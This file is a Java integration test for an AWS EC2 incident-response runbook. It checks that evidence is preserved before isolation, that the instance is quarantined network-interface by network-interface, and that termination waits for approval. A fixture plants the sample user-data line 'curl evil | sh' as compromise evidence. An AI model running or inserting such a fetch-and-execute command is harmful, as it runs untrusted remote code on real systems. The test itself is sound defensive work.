package io.trailhound.respond.engine;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import io.trailhound.avro.ActionStatus;
import io.trailhound.avro.ApprovalDecision;
import io.trailhound.avro.Decision;
import io.trailhound.avro.ResponseAction;
import io.trailhound.respond.ResponderConfig;
import io.trailhound.respond.TestAlerts;
import io.trailhound.testkit.aws.AwsEndpointExtension;
import io.trailhound.testkit.aws.AwsQueryService;
import io.trailhound.testkit.aws.AwsRequest;
import io.trailhound.testkit.aws.S3Endpoint;

/**
 * The EC2 runbook through the real SDK clients against a local EC2/STS endpoint and S3Mock for the evidence bucket: evidence
 * and snapshots before any change, the allow-all group before the quarantine group on every interface, and no removal from
 * service or termination without approval.
 */
class Ec2CompromiseResponseIT {

    @RegisterExtension
    static final AwsEndpointExtension AWS = new AwsEndpointExtension();
    @RegisterExtension
    static final S3Endpoint S3 = new S3Endpoint();

    private static final String INSTANCE = "i-0123456789abcdef0";
    private static final String CONSOLE = "Linux version 6.1 ... xmrig started";
    private static final List<String> EVIDENCE = List.of("GetConsoleOutput", "GetConsoleScreenshot", "CreateSnapshots");
    private static final List<String> CHANGES = List.of("ModifyInstanceAttribute", "CreateTags", "CreateSecurityGroup",
        "ModifyNetworkInterfaceAttribute", "DisassociateIamInstanceProfile", "TerminateInstances");

    private static int bucket;
    private String bucketName;

    @BeforeEach
    void stubEc2() {
        bucketName = "evidence-" + (++bucket);
        S3.createBucket(bucketName);
        stubInstance("");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeInstanceAttribute", Map.of("Attribute", "userData"),
            "<instanceId>" + INSTANCE + "</instanceId><userData><value>" + base64("#!/bin/bash\ncurl evil | sh") + "</value></userData>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeInstanceAttribute", Map.of("Attribute", "disableApiTermination"),
            "<instanceId>" + INSTANCE + "</instanceId><disableApiTermination><value>false</value></disableApiTermination>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeInstanceAttribute", Map.of("Attribute", "instanceInitiatedShutdownBehavior"),
            "<instanceId>" + INSTANCE + "</instanceId><instanceInitiatedShutdownBehavior><value>terminate</value>"
                + "</instanceInitiatedShutdownBehavior>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeIamInstanceProfileAssociations", "<iamInstanceProfileAssociationSet><item>"
            + "<associationId>iip-assoc-1</associationId><instanceId>" + INSTANCE + "</instanceId><iamInstanceProfile>"
            + "<arn>arn:aws:iam::111122223333:instance-profile/web</arn><id>AIPAEXAMPLE</id></iamInstanceProfile>"
            + "<state>associated</state></item></iamInstanceProfileAssociationSet>");
        AWS.stubQuery(AwsQueryService.EC2, "GetConsoleOutput", "<instanceId>" + INSTANCE + "</instanceId>"
            + "<timestamp>2026-11-28T00:09:00.000Z</timestamp><output>" + base64(CONSOLE) + "</output>");
        AWS.stubQuery(AwsQueryService.EC2, "GetConsoleScreenshot", "<instanceId>" + INSTANCE + "</instanceId><imageData>"
            + Base64.getEncoder().encodeToString(new byte[] {(byte) 0xFF, (byte) 0xD8, 1, 2}) + "</imageData>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeSnapshots", "<snapshotSet/>");
        AWS.stubQuery(AwsQueryService.EC2, "CreateSnapshots", "<snapshotSet><item><snapshotId>snap-1</snapshotId>"
            + "<volumeId>vol-1</volumeId></item><item><snapshotId>snap-2</snapshotId><volumeId>vol-2</volumeId></item></snapshotSet>");
        AWS.stubQuery(AwsQueryService.EC2, "ModifyInstanceAttribute", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "CreateTags", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "DescribeSecurityGroups", "<securityGroupInfo/>");
        AWS.stubQuery(AwsQueryService.EC2, "CreateSecurityGroup", Map.of("GroupName", "trailhound-isolation-allow-all"),
            "<return>true</return><groupId>sg-allowall</groupId>");
        AWS.stubQuery(AwsQueryService.EC2, "CreateSecurityGroup", Map.of("GroupName", "trailhound-quarantine"),
            "<return>true</return><groupId>sg-quarantine</groupId>");
        AWS.stubQuery(AwsQueryService.EC2, "AuthorizeSecurityGroupIngress", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "RevokeSecurityGroupEgress", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "ModifyNetworkInterfaceAttribute", "<return>true</return>");
        AWS.stubQuery(AwsQueryService.EC2, "DisassociateIamInstanceProfile", "<iamInstanceProfileAssociation>"
            + "<associationId>iip-assoc-1</associationId><state>disassociating</state></iamInstanceProfileAssociation>");
        AWS.stubQuery(AwsQueryService.EC2, "TerminateInstances", "<instancesSet/>");
    }

    @Test
    void shouldPreserveEvidenceThenIsolateInTwoStepsOnEveryInterface() {
        List<ResponseAction> records;
        try (LocalResponder local = responder(Map.of())) {
            records = local.responder.respond(TestAlerts.instance(INSTANCE).build());
        }
        List<String> calls = AWS.requests().stream().map(AwsRequest::action).toList();
        int lastEvidence = EVIDENCE.stream().mapToInt(calls::lastIndexOf).max().orElseThrow();
        int firstChange = CHANGES.stream().mapToInt(calls::indexOf).filter(i -> i >= 0).min().orElseThrow();
        assertTrue(EVIDENCE.stream().allMatch(calls::contains), calls.toString());
        assertTrue(lastEvidence < firstChange, "evidence and snapshots before any change: " + calls);

        List<String> moves = AWS.requests("ModifyNetworkInterfaceAttribute").stream()
            .map(r -> r.param("NetworkInterfaceId") + ">" + r.param("SecurityGroupId.1")).toList();
        assertEquals(List.of("eni-1>sg-allowall", "eni-2>sg-allowall", "eni-1>sg-quarantine", "eni-2>sg-quarantine"), moves);
        AwsRequest tag = AWS.verifyCalled("CreateTags");
        assertTrue(calls.indexOf("CreateTags") < calls.indexOf("ModifyNetworkInterfaceAttribute"), "original groups recorded first");
        assertEquals("eni-1=sg-web+sg-ssh;eni-2=sg-db", tag.param("Tag.1.Value"));
        assertEquals("0.0.0.0/0", AWS.verifyCalled("RevokeSecurityGroupEgress").param("IpPermissions.1.IpRanges.1.CidrIp"));
        assertEquals("inc-1", AWS.verifyCalled("CreateSnapshots").param("TagSpecification.1.Tag.1.Value"));

        List<String> modified = AWS.requests("ModifyInstanceAttribute").stream().map(r -> r.params().keySet().stream()
            .filter(k -> !List.of("Action", "Version", "InstanceId").contains(k)).findFirst().orElse("")).toList();
        assertEquals(List.of("DisableApiTermination.Value", "InstanceInitiatedShutdownBehavior.Value",
            "BlockDeviceMapping.1.DeviceName"), modified);
        assertEquals("false", AWS.requests("ModifyInstanceAttribute").get(2).param("BlockDeviceMapping.1.Ebs.DeleteOnTermination"));

        assertArrayEquals(CONSOLE.getBytes(StandardCharsets.UTF_8),
            S3.get(bucketName, "inc-1/" + INSTANCE + "/console-output.txt"));
        assertTrue(new String(S3.get(bucketName, "inc-1/" + INSTANCE + "/user-data.txt"), StandardCharsets.UTF_8).contains("curl evil"));

        assertTrue(AWS.requests("TerminateInstances").isEmpty());
        assertTrue(LocalResponder.POLICY_ACTIONS.containsAll(LocalResponder.calledActions(AWS)),
            "the least-privilege policy allows every call made: " + LocalResponder.calledActions(AWS));
        assertEquals(ActionStatus.AWAITING_APPROVAL, find(records, "autoscaling:DetachInstances").getStatus());
        assertEquals(ActionStatus.AWAITING_APPROVAL, find(records, "elasticloadbalancing:DeregisterTargets").getStatus());
    }

    @Test
    void shouldTerminateOnlyAfterAnApproval() {
        try (LocalResponder local = responder(Map.of(ResponderConfig.TERMINATE_CONFIG, "true"))) {
            List<ResponseAction> records = local.responder.respond(TestAlerts.instance(INSTANCE).build());
            ResponseAction waiting = find(records, "ec2:TerminateInstances");
            assertEquals(ActionStatus.AWAITING_APPROVAL, waiting.getStatus());
            assertTrue(AWS.requests("TerminateInstances").isEmpty(), "no termination without approval");
            assertTrue(local.approvals.requests.stream().anyMatch(r -> r.getActionId().equals(waiting.getActionId())));

            local.responder.respond(TestAlerts.instance(INSTANCE).build());
            assertTrue(AWS.requests("TerminateInstances").isEmpty(), "a re-delivered alert does not approve anything");

            List<ResponseAction> decided = local.responder.decide(decision(waiting.getActionId(), Decision.APPROVED));
            assertEquals(List.of(ActionStatus.APPROVED, ActionStatus.EXECUTED), decided.stream().map(ResponseAction::getStatus).toList());
            assertEquals("alice", decided.get(0).getActor());
            assertEquals(INSTANCE, AWS.verifyCalled("TerminateInstances", 1).get(0).param("InstanceId.1"));
            assertTrue(LocalResponder.POLICY_ACTIONS.containsAll(LocalResponder.calledActions(AWS)), LocalResponder.calledActions(AWS)
                .toString());
        }
    }

    @Test
    void shouldNeverTerminateWhenRejected() {
        try (LocalResponder local = responder(Map.of(ResponderConfig.TERMINATE_CONFIG, "true"))) {
            ResponseAction waiting = find(local.responder.respond(TestAlerts.instance(INSTANCE).build()), "ec2:TerminateInstances");
            List<ResponseAction> decided = local.responder.decide(decision(waiting.getActionId(), Decision.REJECTED));
            assertEquals(ActionStatus.REJECTED, decided.get(0).getStatus());
            assertTrue(local.responder.decide(decision(waiting.getActionId(), Decision.APPROVED)).isEmpty(), "a decided action is final");
            assertTrue(AWS.requests("TerminateInstances").isEmpty());
        }
    }

    @Test
    void shouldLeaveAnInstanceWithAProtectingTagAlone() {
        stubInstance("<tagSet><item><key>trailhound:protected</key><value>true</value></item></tagSet>");
        List<ResponseAction> records;
        try (LocalResponder local = responder(Map.of())) {
            records = local.responder.respond(TestAlerts.instance(INSTANCE).build());
        }
        List<String> calls = AWS.requests().stream().map(AwsRequest::action).toList();
        assertTrue(calls.stream().noneMatch(CHANGES::contains) && calls.stream().noneMatch(EVIDENCE::contains), calls.toString());
        assertTrue(records.stream().filter(r -> r.getAwsAction().startsWith("ec2:"))
            .allMatch(r -> r.getStatus() == ActionStatus.SKIPPED && r.getReason().contains("trailhound:protected=true")));
    }

    @Test
    void shouldTagAndStopLaunchedInstancesAndTerminateOnlyAfterApproval() {
        AWS.stubQuery(AwsQueryService.EC2, "StopInstances", "<instancesSet/>");
        List<ResponseAction> records;
        try (LocalResponder local = responder(Map.of())) {
            records = local.responder.respond(TestAlerts.instance(INSTANCE).setRunbook("unauthorized-resource-creation").build());
        }
        List<String> calls = AWS.requests().stream().map(AwsRequest::action).filter(CHANGES::contains).toList();
        assertEquals(List.of("CreateTags"), calls.subList(0, 1));
        assertEquals(INSTANCE, AWS.verifyCalled("StopInstances", 1).get(0).param("InstanceId.1"));
        assertEquals("inc-1", AWS.verifyCalled("CreateTags").param("Tag.1.Value"));
        assertTrue(AWS.requests("TerminateInstances").isEmpty());
        assertEquals(ActionStatus.AWAITING_APPROVAL, find(records, "ec2:TerminateInstances").getStatus());
    }

    private LocalResponder responder(Map<String, String> overrides) {
        Map<String, String> props = new HashMap<>(overrides);
        props.put(ResponderConfig.EVIDENCE_BUCKET_CONFIG, bucketName);
        return new LocalResponder(AWS, S3.endpoint(), props);
    }

    private static void stubInstance(String tags) {
        AWS.stubQuery(AwsQueryService.EC2, "DescribeInstances", "<reservationSet><item><reservationId>r-1</reservationId>"
            + "<instancesSet><item><instanceId>" + INSTANCE + "</instanceId><instanceState><code>16</code><name>running</name>"
            + "</instanceState><vpcId>vpc-1</vpcId>" + tags
            + "<blockDeviceMapping><item><deviceName>/dev/xvda</deviceName><ebs><volumeId>vol-1</volumeId>"
            + "<deleteOnTermination>true</deleteOnTermination></ebs></item><item><deviceName>/dev/xvdb</deviceName><ebs>"
            + "<volumeId>vol-2</volumeId><deleteOnTermination>false</deleteOnTermination></ebs></item></blockDeviceMapping>"
            + "<networkInterfaceSet><item><networkInterfaceId>eni-1</networkInterfaceId><groupSet>"
            + "<item><groupId>sg-web</groupId></item><item><groupId>sg-ssh</groupId></item></groupSet></item>"
            + "<item><networkInterfaceId>eni-2</networkInterfaceId><groupSet><item><groupId>sg-db</groupId></item></groupSet></item>"
            + "</networkInterfaceSet></item></instancesSet></item></reservationSet>");
    }

    private static ApprovalDecision decision(String actionId, Decision decision) {
        return ApprovalDecision.newBuilder().setRequestId("r").setActionId(actionId).setDecision(decision).setApprover("alice")
            .setDecidedAt(TestAlerts.NOW.plusSeconds(60)).build();
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static ResponseAction find(List<ResponseAction> records, String action) {
        return records.stream().filter(r -> r.getAwsAction().equals(action)).findFirst().orElseThrow(() -> new AssertionError(action));
    }
}
